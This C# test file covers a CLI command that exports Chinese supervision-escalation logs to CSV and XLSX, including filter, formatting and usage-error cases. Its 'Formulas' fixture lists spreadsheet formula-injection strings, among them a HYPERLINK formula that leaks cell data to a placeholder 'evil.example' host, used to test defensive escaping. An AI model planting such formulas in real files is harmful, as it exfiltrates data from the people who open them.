using System.Globalization;
using System.Text;
using CsvHelper;
using Escalation.Domain.Delivery;
using Escalation.Domain.Events;
using Escalation.Domain.Items;
using Escalation.Domain.Rules;
using Escalation.Functions.Commands;
using Escalation.Functions.Export;
using Escalation.Functions.Storage;
using Escalation.Functions.Tests.Import;
using Escalation.Functions.Tests.Storage;
using MiniExcelLibs;
using NodaTime.Testing;
using NodaTime;

namespace Escalation.Functions.Tests.Export;

/// <summary>Events and deliveries to export, and how to read an export back.</summary>
internal static class ExportData
{
    public static readonly Instant Now = Instant.FromUtc(2026, 6, 2, 0, 30);

    public static EscalationEvent Notice(string occurrence, string unit, LocalDate date, string unitName = "市发展改革委", string title = "推进城市更新“一号工程”") => new(
        EventId.For(new RuleId("R5"), new ItemId(unit + "-2026-01"), occurrence),
        new RuleId("R5"),
        EventLevel.Notice,
        EventKind.Lagging,
        new ItemId(unit + "-2026-01"),
        new UnitId(unit),
        date,
        occurrence,
        [new Recipient(RecipientRole.UnitPrincipal, new PersonId(unit + "-zhang"), false), new Recipient(RecipientRole.SupervisionOffice, new PersonId("dcs-office"), true)],
        [Channel.Email, Channel.Sms],
        "lag-notice",
        new EventFacts(title, unitName, 45.5, 20, "完成方案报批", new LocalDate(2026, 5, 29), 40, false, 3, 2, "2026年5月", "2026-05",
            new LocalDate(2026, 5, 31), null, null),
        new Demand(DemandKind.Explanation, new LocalDate(2026, 6, 9)));

    public static Delivery Delivery(EscalationEvent e, Channel channel, DeliveryStatus status) =>
        new(e.Id, e.Unit, channel, new PersonId(e.Unit.Value + "-zhang"), RecipientRole.UnitPrincipal, false, status, 1, null, null, null, null, Now);

    /// <summary>The CSV's lines as fields (CsvHelper, so that quoted fields are read as Excel would).</summary>
    public static List<string[]> ReadCsv(string file)
    {
        using var reader = new StreamReader(file, Encoding.UTF8);
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add([.. Enumerable.Range(0, csv.Parser.Count).Select(i => csv.GetField(i) ?? "")]);
        }

        return rows;
    }

    public static (int Code, string Stdout, string Stderr) Run(params string[] args)
    {
        using var stdout = new StringWriter();
        using var stderr = new StringWriter();
        var code = Cli.Run(args, stdout, stderr, _ => null, new FakeClock(Now));
        return (code, stdout.ToString(), stderr.ToString());
    }
}

/// <summary><c>export log</c> from the embedded store.</summary>
public sealed class ExportCommandTests : IAsyncLifetime, IDisposable
{
    private static readonly EscalationEvent JuneFgw = ExportData.Notice("lag:2026-05", "fgw", new LocalDate(2026, 6, 2));
    private static readonly EscalationEvent JuneFgwLater = ExportData.Notice("lag:2026-04", "fgw", new LocalDate(2026, 6, 5));
    private static readonly EscalationEvent JuneZjj = ExportData.Notice("lag:2026-05", "zjj", new LocalDate(2026, 6, 2), "市住房城乡建设局");
    private static readonly EscalationEvent July = ExportData.Notice("lag:2026-06", "fgw", new LocalDate(2026, 7, 1));
    private static readonly EscalationEvent May = ExportData.Notice("lag:2026-03", "fgw", new LocalDate(2026, 5, 29));

    private readonly TempFolder _files = new();
    private readonly string _store;

    public ExportCommandTests()
    {
        _store = _files["store"];
    }

    public async Task InitializeAsync()
    {
        var tables = SqliteTables.Open(_store, new FakeClock(ExportData.Now));
        var log = new EscalationLog(tables);
        var ledger = new DeliveryLedger(tables);
        foreach (var e in new[] { JuneZjj, JuneFgwLater, JuneFgw, July, May })
        {
            await log.Record(e, ExportData.Now);
        }

        await log.SetStatus(JuneFgw.Unit, JuneFgw.Id, _ => LogStatus.PartlyFailed, "1 of 2 deliveries failed", ExportData.Now);
        await ledger.Open(ExportData.Delivery(JuneFgw, Channel.Email, DeliveryStatus.Sent));
        await ledger.Open(ExportData.Delivery(JuneFgw, Channel.Sms, DeliveryStatus.Failed));
        await ledger.Open(ExportData.Delivery(JuneZjj, Channel.Email, DeliveryStatus.Sent));
        await ledger.Open(ExportData.Delivery(JuneZjj, Channel.Sms, DeliveryStatus.Sent));
        await ledger.Open(ExportData.Delivery(July, Channel.Sms, DeliveryStatus.Pending));
    }

    public Task DisposeAsync() => Task.CompletedTask;

    public void Dispose() => _files.Dispose();

    [Fact]
    public void Export_WritesOneRowPerEventOfTheMonth_WhenTheFormatIsCsv()
    {
        var file = _files["june.csv"];

        var (code, stdout, stderr) = ExportData.Run("export", "log", "--month", "2026-06", "--format", "csv", "--out", file, "--store", _store);

        var bytes = File.ReadAllBytes(file);
        var rows = ExportData.ReadCsv(file);
        Assert.Equal(Cli.Ok, code);
        Assert.Equal("", stderr);
        Assert.Equal($"已导出 2026-06 的督办记录 3 条：{Path.GetFullPath(file)}", stdout.TrimEnd());
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Equal(string.Join(",", LogExport.Headers), File.ReadAllLines(file, Encoding.UTF8)[0]);
        Assert.Equal(37, LogExport.Headers.Count);
        Assert.Equal(4, rows.Count);
        Assert.Equal([JuneFgw.Id.Value, JuneZjj.Id.Value, JuneFgwLater.Id.Value], rows.Skip(1).Select(r => r[1]));
        Assert.Equal(
            [
                "2026-06-02", JuneFgw.Id.Value, "通报", "进度滞后", "R5", "市发展改革委", "fgw", "fgw-2026-01", "推进城市更新“一号工程”", "完成方案报批", "2026-05-29",
                "45.5", "20", "2", "2026年5月", "", "", "", "主要负责人(fgw-zhang)", "督查室(dcs-office)", "邮件、短信", "情况说明", "2026-06-09",
                "fgw", "", "", "部分失败", "已发送1；失败1", "1 of 2 deliveries failed", "督办〔2026〕0003号", "", "", "", "", "", "", "",
            ],
            rows[1]);
        Assert.Equal("已发送2", rows[2][27]);
        Assert.Equal(("待发布", "尚无送达记录", ""), (rows[3][26], rows[3][27], rows[3][28]));
    }

    [Fact]
    public async Task Export_WritesWhoSignedAndWhen_InLocalTime_WhenANoticeIsSigned()
    {
        var tables = SqliteTables.Open(_store, new FakeClock(ExportData.Now));
        await new EscalationLog(tables).Sign(JuneZjj.Unit, JuneZjj.Id, new PersonId("zjj-liu"), Instant.FromUtc(2026, 6, 2, 2, 15));
        var file = _files["signed.csv"];

        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-06", "--format", "csv", "--out", file, "--store", _store);

        var rows = ExportData.ReadCsv(file);
        Assert.Equal(Cli.Ok, code);
        Assert.Equal(["签收人", "签收时间"], rows[0][30..32]);
        var zjj = rows.Single(r => r[1] == JuneZjj.Id.Value);
        Assert.Equal(["zjj-liu", "2026-06-02 10:15"], zjj[30..32]);
        Assert.All(rows.Skip(1).Where(r => r[1] != JuneZjj.Id.Value), r => Assert.Equal(["", ""], r[30..32]));
    }

    [Fact]
    public void Export_WritesOnlyTheUnitsEvents_WhenAUnitIsGiven()
    {
        var file = _files["zjj.csv"];

        var (code, stdout, _) = ExportData.Run("export", "log", "--month", "2026-06", "--unit", "zjj", "--format", "csv", "--out", file, "--store", _store);

        var rows = ExportData.ReadCsv(file);
        Assert.Equal(Cli.Ok, code);
        Assert.Contains("已导出 2026-06 单位 zjj 的督办记录 1 条", stdout, StringComparison.Ordinal);
        Assert.Equal(2, rows.Count);
        Assert.Equal((JuneZjj.Id.Value, "zjj", "市住房城乡建设局"), (rows[1][1], rows[1][6], rows[1][5]));
    }

    [Fact]
    public void Export_WritesChineseHeadersAndOneRowPerEvent_WhenTheFormatIsXlsx()
    {
        var file = _files["june.xlsx"];

        var (code, _, stderr) = ExportData.Run("export", "log", "--month", "2026-06", "--format", "xlsx", "--out", file, "--store", _store);

        var rows = MiniExcel.Query(file, useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
        Assert.Equal(Cli.Ok, code);
        Assert.Equal("", stderr);
        Assert.Equal(["督办记录2026-06"], MiniExcel.GetSheetNames(file));
        Assert.Equal(3, rows.Count);
        Assert.All(rows, r => Assert.Equal(LogExport.Headers, r.Keys));
        Assert.Equal([JuneFgw.Id.Value, JuneZjj.Id.Value, JuneFgwLater.Id.Value], rows.Select(r => r["事件编号"]?.ToString()));
        Assert.Equal("已发送1；失败1", rows[0]["送达情况"]);
        Assert.Equal((new DateTime(2026, 6, 2), 45.5, 2.0), (rows[0]["日期"], rows[0]["计划进度(%)"], rows[0]["连续滞后期数"]));
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("xlsx")]
    public void Export_WritesTheHeaderRowAlone_WhenTheMonthHasNoEvents(string format)
    {
        var file = _files["empty." + format];

        var (code, stdout, _) = ExportData.Run("export", "log", "--month", "2026-01", "--format", format, "--out", file, "--store", _store);

        Assert.Equal(Cli.Ok, code);
        Assert.Contains("已导出 2026-01 的督办记录 0 条", stdout, StringComparison.Ordinal);
        if (format == "csv")
        {
            Assert.Equal([string.Join(",", LogExport.Headers)], File.ReadAllLines(file, Encoding.UTF8));
        }
        else
        {
            Assert.Equal(LogExport.Headers, MiniExcel.Query(file, useHeaderRow: false).Cast<IDictionary<string, object?>>().Single().Values.Select(v => v?.ToString()));
        }
    }

    [Theory]
    [InlineData("2026-13")]
    [InlineData("2026-6")]
    [InlineData("June")]
    public void Export_ExitsWithUsageError_WhenTheMonthIsNotYyyyMm(string month)
    {
        var file = _files["bad.csv"];

        var (code, stdout, stderr) = ExportData.Run("export", "log", "--month", month, "--format", "csv", "--out", file, "--store", _store);

        Assert.Equal(Cli.UsageError, code);
        Assert.Equal("", stdout);
        Assert.Contains($"--month 应写作 YYYY-MM，如 2026-06（收到 '{month}'）", stderr, StringComparison.Ordinal);
        Assert.False(File.Exists(file));
    }

    // Events of the fixture:   May 29 (fgw) | June 2 (fgw, zjj), June 5 (fgw) | July 1 (fgw)
    //   ISO week 2026-W22: Mon May 25 .. Sun May 31;  2026-W23: Mon June 1 .. Sun June 7
    [Theory]
    [InlineData("2026-W23", 3)]
    [InlineData("2026-W22", 1)]
    [InlineData("2026-W27", 1)]
    [InlineData("2026-W24", 0)]
    public void Export_WritesTheEventsOfTheIsoWeek_WhenAWeekIsGiven(string week, int events)
    {
        var file = _files[week + ".csv"];

        var (code, stdout, stderr) = ExportData.Run("export", "log", "--week", week, "--format", "csv", "--out", file, "--store", _store);

        var rows = ExportData.ReadCsv(file);
        Assert.Equal(Cli.Ok, code);
        Assert.Equal("", stderr);
        Assert.Contains($"已导出 {week} 的督办记录 {events} 条", stdout, StringComparison.Ordinal);
        Assert.Equal(events, rows.Count - 1);
    }

    [Fact]
    public void Export_WritesTheEventsOfBothEndsAndBetween_WhenARangeCrossesAMonth()
    {
        var file = _files["range.xlsx"];

        var (code, stdout, stderr) = ExportData.Run("export", "log", "--from", "2026-05-29", "--to", "2026-06-02", "--format", "xlsx", "--out", file, "--store", _store);

        var rows = MiniExcel.Query(file, useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
        Assert.Equal(Cli.Ok, code);
        Assert.Equal("", stderr);
        Assert.Contains("已导出 2026-05-29至2026-06-02 的督办记录 3 条", stdout, StringComparison.Ordinal);
        Assert.Equal(["督办记录2026-05-29至2026-06-02"], MiniExcel.GetSheetNames(file));
        Assert.Equal([May.Id.Value, JuneFgw.Id.Value, JuneZjj.Id.Value], rows.Select(r => r["事件编号"]?.ToString()));
    }

    [Fact]
    public async Task Export_QuotesTextThatExcelWouldRunAsAFormula_WhenTheFormatIsCsv()
    {
        var tables = SqliteTables.Open(_store, new FakeClock(ExportData.Now));
        var log = new EscalationLog(tables);
        foreach (var (unit, name, title) in Formulas)
        {
            await log.Record(ExportData.Notice("lag:2026-08", unit, new LocalDate(2026, 9, 1), name, title), ExportData.Now);
        }

        var file = _files["formulas.csv"];

        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-09", "--format", "csv", "--out", file, "--store", _store);

        var rows = ExportData.ReadCsv(file).Skip(1).ToDictionary(r => r[6]);
        Assert.Equal(Cli.Ok, code);
        Assert.All(Formulas, f => Assert.Equal(("'" + f.Name, "'" + f.Title), (rows[f.Unit][5], rows[f.Unit][8])));
        Assert.Equal("45.5", rows["u1"][11]);
    }

    [Fact]
    public async Task Export_WritesFormulaLikeTextAsLiteralText_WhenTheFormatIsXlsx()
    {
        var tables = SqliteTables.Open(_store, new FakeClock(ExportData.Now));
        var log = new EscalationLog(tables);
        foreach (var (unit, name, title) in Formulas)
        {
            await log.Record(ExportData.Notice("lag:2026-08", unit, new LocalDate(2026, 9, 1), name, title), ExportData.Now);
        }

        var file = _files["formulas.xlsx"];

        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-09", "--format", "xlsx", "--out", file, "--store", _store);

        var sheet = XlsxSheet.Read(file);
        Assert.Equal(Cli.Ok, code);
        Assert.Equal(0, sheet.Formulas);
        var byUnit = sheet.Rows.ToDictionary(r => r["单位编号"].Value);
        // A bare CR reads back as LF: XML parsers normalise line ends, and MiniExcel writes the CR unescaped.
        static string Xml(string text) => text.Replace('\r', '\n');
        Assert.All(Formulas, f => Assert.Equal((Xml(f.Name), Xml(f.Title)), (byUnit[f.Unit]["责任单位"].Value, byUnit[f.Unit]["任务名称"].Value)));
        Assert.All(Formulas, f => Assert.True(byUnit[f.Unit]["任务名称"].IsText));
    }

    [Fact]
    public void Export_WritesNumbersAsNumbersAndDatesAsExcelDates_WhenTheFormatIsXlsx()
    {
        var file = _files["typed.xlsx"];

        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-06", "--format", "xlsx", "--out", file, "--store", _store);

        var sheet = XlsxSheet.Read(file);
        var first = sheet.Rows[0];
        Assert.Equal(Cli.Ok, code);
        Assert.Equal(LogExport.Headers, sheet.Headers);
        Assert.All(LogExport.Columns.Where(c => c.Kind == CellKind.Number), c => Assert.True(first[c.Header].IsNumber, c.Header));
        Assert.Equal(("45.5", "20", "2"), (first["计划进度(%)"].Value, first["实际进度(%)"].Value, first["连续滞后期数"].Value));
        Assert.All(LogExport.Columns.Where(c => c.Kind == CellKind.Date), c => Assert.Equal(("yyyy-mm-dd", true), (first[c.Header].Format, first[c.Header].IsNumber)));
        Assert.Equal(
            [new LocalDate(2026, 6, 2), new LocalDate(2026, 5, 29), new LocalDate(2026, 6, 9)],
            DateHeaders.Select(h => LocalDate.FromDateTime(DateTime.FromOADate(double.Parse(first[h].Value, CultureInfo.InvariantCulture)))));
        Assert.All(LogExport.Columns.Where(c => c.Kind == CellKind.Text), c => Assert.True(first[c.Header].IsText || first[c.Header].Value == "", c.Header));
    }

    private static readonly string[] DateHeaders = ["日期", "节点日期", "要求时限"];

    /// <summary>Every character OWASP lists as starting a formula (CWE-1236), in a unit name and a task title from an admin's file.</summary>
    private static readonly (string Unit, string Name, string Title)[] Formulas =
    [
        ("u1", "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"),
        ("u2", "+市发展改革委", "+1"),
        ("u3", "-市住建局", "-2+3"),
        ("u4", "@SUM(A1:A9)", "@任务"),
        ("u5", "\t=1+1", "\t任务"),
        ("u6", "\r=1+1", "\r任务"),
    ];

    [Theory]
    [InlineData("export", "log", "--format", "csv")]
    [InlineData("export", "log", "--month", "2026-06", "--format", "pdf")]
    [InlineData("export", "events", "--month", "2026-06")]
    [InlineData("export", "log", "--month", "2026-06", "--unit", "a/b")]
    [InlineData("export", "log", "--month", "2026-06", "--week", "2026-W23")]
    [InlineData("export", "log", "--week", "2026-W23", "--from", "2026-06-01", "--to", "2026-06-07")]
    [InlineData("export", "log", "--from", "2026-06-01")]
    [InlineData("export", "log", "--to", "2026-06-01")]
    [InlineData("export", "log", "--from", "2026-06-08", "--to", "2026-06-01")]
    [InlineData("export", "log", "--from", "2026-06-31", "--to", "2026-07-01")]
    [InlineData("export", "log", "--week", "2026-23")]
    [InlineData("export", "log", "--week", "2025-W53")]
    public void Export_ExitsWithAChineseUsageError_WhenAnArgumentIsWrong(params string[] args)
    {
        var (code, stdout, stderr) = ExportData.Run([.. args, "--store", _store]);

        Assert.Equal(Cli.UsageError, code);
        Assert.Equal("", stdout);
        Assert.Matches(@"\p{IsCJKUnifiedIdeographs}", stderr);
    }
}

/// <summary><c>export log</c> from the Table service (Azurite), with <c>--connection</c>.</summary>
public sealed class AzuriteExportTests : IDisposable
{
    private readonly TempFolder _files = new();

    [Fact]
    public async Task Export_ReadsTheMonthIndexOfTheTableService_WhenAConnectionIsGiven()
    {
        var connection = Environment.GetEnvironmentVariable(AzuriteBackend.Variable)
            ?? throw new InvalidOperationException($"{AzuriteBackend.Variable} is not set. Run ./test.sh, which starts Azurite.");

        // The command names the tables itself (no per-test prefix): a unit of this test's own, in a month no other test
        // uses, keeps its rows apart from any other test's.
        var unit = "u" + Guid.NewGuid().ToString("N")[..12];
        var tables = AzureTables.FromConnectionString(connection);
        var log = new EscalationLog(tables);
        var june = ExportData.Notice("lag:2039-05", unit, new LocalDate(2039, 6, 2));
        await log.Record(june, ExportData.Now);
        await log.Record(ExportData.Notice("lag:2039-04", unit, new LocalDate(2039, 6, 12)), ExportData.Now);
        await log.Record(ExportData.Notice("lag:2039-06", unit, new LocalDate(2039, 7, 1)), ExportData.Now);
        await new DeliveryLedger(tables).Open(ExportData.Delivery(june, Channel.Email, DeliveryStatus.Failed));
        var file = _files["june.csv"];

        var (code, _, stderr) = ExportData.Run("export", "log", "--month", "2039-06", "--unit", unit, "--format", "csv", "--out", file, "--connection", connection);

        var rows = ExportData.ReadCsv(file);
        Assert.Equal(Cli.Ok, code);
        Assert.Equal("", stderr);
        Assert.Equal(LogExport.Headers, rows[0]);
        Assert.Equal(["2039-06-02", "2039-06-12"], rows.Skip(1).Select(r => r[0]));
        Assert.All(rows.Skip(1), r => Assert.Equal(unit, r[6]));
        Assert.Equal("失败1", rows[1][LogExport.Headers.ToList().IndexOf("送达情况")]);
    }

    public void Dispose() => _files.Dispose();
}
